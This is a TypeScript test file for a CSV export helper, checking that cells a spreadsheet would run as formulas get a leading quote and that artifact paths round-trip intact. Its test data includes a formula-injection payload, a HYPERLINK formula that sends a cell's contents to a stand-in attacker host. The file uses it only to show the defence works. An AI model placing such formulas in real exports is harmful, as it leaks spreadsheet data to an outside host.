import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { artifactsText, csvCell } from '../../src/commands/csv-cells.js';

/** One CSV line of these cells, read back by a CSV parser (as pandas or csvkit would). */
const readBack = (cells: string[]): string[] => (parse(`${cells.join(',')}\n`) as string[][])[0]!;

describe('csvCell', () => {
  it("puts a ' before text a spreadsheet would run as a formula, and only before that text", () => {
    const formulas = ['=HYPERLINK("https://evil.example/?"&A1,"open")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
    expect(readBack(formulas.map((text) => csvCell(text, false)))).toEqual(formulas.map((text) => `'${text}`));
    const plain = ['a=b.jpg', 'photo-1.jpg', "'=already text", ' =1', '', 'sub dir/a b.jpg'];
    expect(readBack(plain.map((text) => csvCell(text, false)))).toEqual(plain);
  });

  it('leaves numbers and JSON values as they are: -5 stays a number', () => {
    expect([csvCell(-5, false), csvCell(-0.25, false), csvCell(3, false), csvCell(null, false)]).toEqual(['-5', '-0.25', '3', '']);
    // A result is JSON: an object, or a string in JSON's quotes, never runs.
    expect(readBack([csvCell({ text: '=1+1' }, false), csvCell(['@x'], false)])).toEqual(['{"text":"=1+1"}', '["@x"]']);
  });

  it('--csv-raw writes text exactly as stored', () => {
    const texts = ['=HYPERLINK("x","y")', '-5.jpg', '@a', '\tb', 'plain, with "quotes"'];
    expect(readBack(texts.map((text) => csvCell(text, true)))).toEqual(texts);
  });
});

describe('artifactsText', () => {
  it('one path as it is, several as a JSON array: read back, they are the paths given, spaces, commas and quotes included', () => {
    const cases: string[][] = [[], ['preprocess/a.jpg'], ['preprocess/sub dir/a b.jpg'], ['a/x y.png', 'a/z, "w".png'], ['[odd]/x.png'], ['a/=b.png', 'a/c.png']];
    const cells = readBack(cases.map((paths) => csvCell(artifactsText(paths), true)));
    expect(cells.slice(0, 3)).toEqual(['', 'preprocess/a.jpg', 'preprocess/sub dir/a b.jpg']);
    // What a program does with the cell: empty is none, [ starts an array, anything else is one path.
    const paths = (cell: string): string[] => (cell === '' ? [] : cell.startsWith('[') ? (JSON.parse(cell) as string[]) : [cell]);
    expect(cells.map(paths)).toEqual(cases);
  });
});
